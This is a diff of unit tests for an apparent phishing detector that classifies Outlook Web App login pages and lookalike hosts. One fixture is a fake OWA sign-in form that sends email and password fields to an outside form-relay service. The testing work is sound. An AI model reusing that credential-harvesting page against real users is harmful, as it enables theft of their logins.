@@ -163,6 +163,34 @@ describe('the page model', () => {
     );
   });
 
+  it.each([
+    'webmail.graphicdesigninstitute.example',
+    'mail.smithassociates.example',
+    'owa.cityauthority.example',
+  ])(
+    'leaves the own OWA of an organisation whose name holds a trick word’s letters (%s)',
+    (host) => {
+      expect(verdict(ON_PREM_OWA, `https://${host}/owa/auth/logon.aspx`).verdict).toBe('other');
+    },
+  );
+
+  it.each(['secureowa.example', 'mail-signin-portal.example'])(
+    'is not fooled by a relay named for the trick (%s)',
+    (host) => {
+      expect(verdict(ON_PREM_OWA, `https://${host}/owa/auth/logon.aspx`).verdict).toBe('lookalike');
+    },
+  );
+
+  it('calls a copy keeping Outlook Web App’s theme files an OWA copy, whatever its field names', () => {
+    const copy = page(
+      'Outlook',
+      `<link rel="stylesheet" href="/owa/auth/15.1.1591/themes/resources/logon.css">
+       <form action="https://formsubmit.co/x@example.net" method="post"><input type="email" name="email02">
+       <input type="password" name="password"><label>Show password</label><button>sign in</button></form>`,
+    );
+    expect(verdict(copy, 'https://mailbox-sync-portal.example/').codes[0]).toBe('owa-copy');
+  });
+
   it('leaves an organisation’s own Remote Desktop Web Access alone, not a copy posting elsewhere', () => {
     const rdweb = page(
       'RD Web Access',
